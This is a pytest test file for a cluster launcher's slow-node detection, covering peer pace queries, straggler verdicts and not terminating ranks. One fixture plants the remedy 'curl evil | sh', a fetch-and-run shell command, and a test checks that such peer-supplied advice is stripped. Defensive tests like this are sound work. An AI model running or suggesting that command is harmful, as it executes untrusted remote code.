"""A node and slow ranks of other nodes: it asks first, says once, ends nobody, and in the end speaks for itself."""

from __future__ import annotations

import dataclasses
import queue
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from said import Said

from safelaunch.cluster.messages import AskPaces, Hello, Message, Paced
from safelaunch.cluster.peers import Peers
from safelaunch.model import Verdict, WorkerGroup
from safelaunch.model.nodes import Node, Nodes
from safelaunch.model.slow import SlowLink, Slowness
from safelaunch.run.findings import Findings
from safelaunch.run.incidents import Incidents
from safelaunch.run.pace_reports import Round
from safelaunch.run.slow_nodes import PATIENCE_S, SlowNodes
from safelaunch.run.this_node import ThisNode
from safelaunch.watch.slow import SlowWatch

NODES = tuple(Node(n, f"node-{n}", f"10.0.0.{n}", 4000, 2 * n, 2) for n in range(3))
ALL = Slowness("slower", (), "step", 60)
ONE = Slowness("straggler", (3,), "step", 41, source="calls")
SLOW = Verdict(
    code="SL503",
    slug="straggler",
    kind="slow",
    summary="rank 4 on node-2 is slow",
    culprit_ranks=(4,),
    because=("it computes more",),
    remedy="curl evil | sh",
    exit_code=1,
)


class FakeLink:
    def __init__(self, me: int) -> None:
        self.peers = Peers()
        self.peers.meet(Nodes(0, me, NODES, "00"), time.monotonic())
        for node in {1, 2} if me == 0 else {0}:
            assert self.peers.admits(Hello(node))
            self.peers.heard(node, time.monotonic(), 0)
        self.said: list[Message] = []

    def to_hub(self, message: Message) -> None:
        self.said.append(message)

    to_all = to_hub


class OneNode:
    """A node of three."""

    def __init__(self, folder: Path, me: int = 1) -> None:
        self.console = Said()
        self.inbox: queue.SimpleQueue[Any] = queue.SimpleQueue()
        self.watch = SlowWatch()
        incidents = Incidents(str(folder), self.console, Findings())
        holder = cast("Any", SimpleNamespace(inboxes=SimpleNamespace(pace=self.inbox)))
        self.console.slow_verdict = lambda verdict, _: self.console.lines.append(verdict)  # type: ignore[method-assign,assignment]
        self.console.aside = self.console.lines.append  # type: ignore[method-assign]
        self.slow = SlowNodes(holder, self.watch, self.console, incidents, ThisNode())
        self.link = FakeLink(me)
        self.hears(None)

    def hears(self, message: Message | None) -> None:
        self.inbox.put((self.link, 0, message))
        self.slow.poll(Round(WorkerGroup(0, 6, 2), cast("Any", None), {}, {}, [], time.monotonic()))


@pytest.fixture
def node(tmp_path: Path) -> OneNode:
    return OneNode(tmp_path)


def test_a_suspicion_waits_for_what_the_others_know(node: OneNode) -> None:
    assert node.slow.holds(ALL, 10.0)
    assert node.link.said == [AskPaces()]
    assert node.slow.holds(ALL, 12.0)
    assert len(node.link.said) == 1


def test_who_gets_no_answer_speaks_for_itself(node: OneNode) -> None:
    assert node.slow.holds(ALL, 10.0)
    assert not node.slow.holds(ALL, 10.0 + PATIENCE_S)
    assert node.slow.completed(ALL) == ALL


def test_what_is_not_known_over_all_nodes_is_said_of_this_one(node: OneNode) -> None:
    assert node.slow.holds(ALL, 10.0)
    node.hears(Paced(unknown="node-2 has not told"))
    assert not node.slow.holds(ALL, 12.0)
    assert node.slow.completed(ALL).nodes == ()


def test_a_rank_elsewhere_is_said_in_place_of_all_ranks_here(node: OneNode) -> None:
    assert node.slow.holds(ALL, 10.0)
    node.hears(Paced(SLOW))
    assert node.slow.holds(ALL, 12.0)
    assert [verdict.summary for verdict in node.slow.verdicts] == ["rank 4 on node-2 is slow"]
    assert "slower" in node.watch.told


def test_where_nobody_is_late_all_nodes_are_known(node: OneNode) -> None:
    assert node.slow.holds(ALL, 10.0)
    link = SlowLink("node-2", 0.07, 0.004)
    node.hears(Paced(link=link))
    assert not node.slow.holds(ALL, 12.0)
    found = node.slow.completed(ALL)
    assert [(one.host, one.ranks) for one in found.nodes] == [
        ("node-0", (0, 1)),
        ("node-1", (2, 3)),
        ("node-2", (4, 5)),
    ]
    assert found.link == link


def test_a_rank_that_is_late_on_its_node_alone_is_not_named(node: OneNode) -> None:
    assert node.slow.holds(ONE, 10.0)
    node.hears(Paced())
    assert node.slow.holds(ONE, 12.0)
    assert node.slow.verdicts == []


def test_it_is_said_once_without_the_advice_of_others_and_ends_nobody(node: OneNode) -> None:
    node.hears(Paced(SLOW))
    node.hears(Paced(SLOW))
    (said,) = cast("list[Verdict]", node.console.lines)
    assert "curl" not in said.remedy
    assert "node-0" in said.remedy
    assert node.slow.verdicts[0].exit_code == 0


def test_words_that_are_no_slowness_are_not_said(node: OneNode) -> None:
    node.hears(Paced(dataclasses.replace(SLOW, kind="crash")))
    node.hears(Paced(dataclasses.replace(SLOW, code="SL999")))
    assert node.slow.verdicts == []


def test_it_is_said_that_a_rank_keeps_up_again(node: OneNode) -> None:
    node.hears(Paced(SLOW))
    node.hears(Paced(over=200))
    assert node.console.lines[-1] == "SL503: rank 4: no longer slow, at step 200"
    assert node.slow.verdicts[0].summary == "rank 4 on node-2 is slow; until about step 200"


def test_a_run_of_one_node_asks_nobody(node: OneNode) -> None:
    node.link.peers.left(0, time.monotonic())
    assert not node.slow.holds(ALL, 10.0)
